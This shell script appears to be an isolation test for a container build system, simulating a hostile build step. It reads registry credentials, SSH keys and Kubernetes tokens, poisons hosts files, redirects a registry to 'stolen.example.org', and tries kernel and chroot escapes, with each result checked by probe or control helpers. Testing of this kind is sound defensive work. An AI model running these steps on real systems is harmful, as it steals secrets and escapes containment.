#!/bin/sh
# What a Dockerfile of an attacker runs.
# shellcheck disable=SC1091,SC2012,SC2046
exec 2>/dev/null
cd "$(dirname "$0")" || exit
. ./lib.sh
elsewhere() { # elsewhere PATH: as other processes see it, if their root is not ours
    for process in /proc/[0-9]*; do
        [ "$(stat -L -c %d:%i "$process/root/")" = "$(stat -L -c %d:%i /)" ] || echo "$process/root$1"
    done
}

cat /credentials/registry/config.json $(elsewhere /credentials/registry/config.json) | probe build-credentials
cat $(elsewhere /credentials/ssh/ssh-privatekey) $(elsewhere /var/run/secrets/kubernetes.io/serviceaccount/token) |
    probe build-credentials
cat linked.txt | control build-credentials
for hosts in $(elsewhere /etc/hosts); do
    echo '203.0.113.1 registry.internal quarantine.internal forge.internal' >>"$hosts" && echo "$hosts"
done | probe build-hosts
echo '203.0.113.1 registry.internal quarantine.internal forge.internal' >/etc/own
grep -o 203.0.113.1 /etc/own | control build-hosts
mkdir -p "$HOME/.docker" "$HOME/.config/containers" /etc/containers
echo '{"auths": {}, "credHelpers": {"quarantine.internal:5001": "evil"}}' >"$HOME/.docker/config.json"
printf '[[registry]]\nprefix = "quarantine.internal:5001"\nlocation = "stolen.example.org"\n' |
    tee "$HOME/.config/containers/registries.conf" >/etc/containers/registries.conf
grep -o stolen.example.org /etc/containers/registries.conf | control build-configuration
mkdir -p /device
{ mount -t tmpfs none /device && echo mounted; mknod /device/disk b 8 0 && echo made
echo h >/proc/sysrq-trigger && echo rebooted; echo evil >/proc/sys/kernel/core_pattern && echo hooked
head -c 1 /proc/kcore; dmesg | head -1; for root in $(elsewhere ""); do chroot "$root" true && echo escaped; done; } | probe build-kernel
: >/device/file && ls /device | control build-kernel
commands | grep -o -E '[k]ubelet|[e]tcd|[t]est.sh|[s]shd|[c]ontainerd|[b]uildkitd|[b]uildctl' | sort -u | probe build-processes
commands | grep -o '[p]robe.sh' | sort -u | control build-processes
setsid sh -c 'exec sleep 31338' >/dev/null </dev/null &
sleep 0.1
commands | grep -o '[s]leep 31338' | control build-background
exit 0
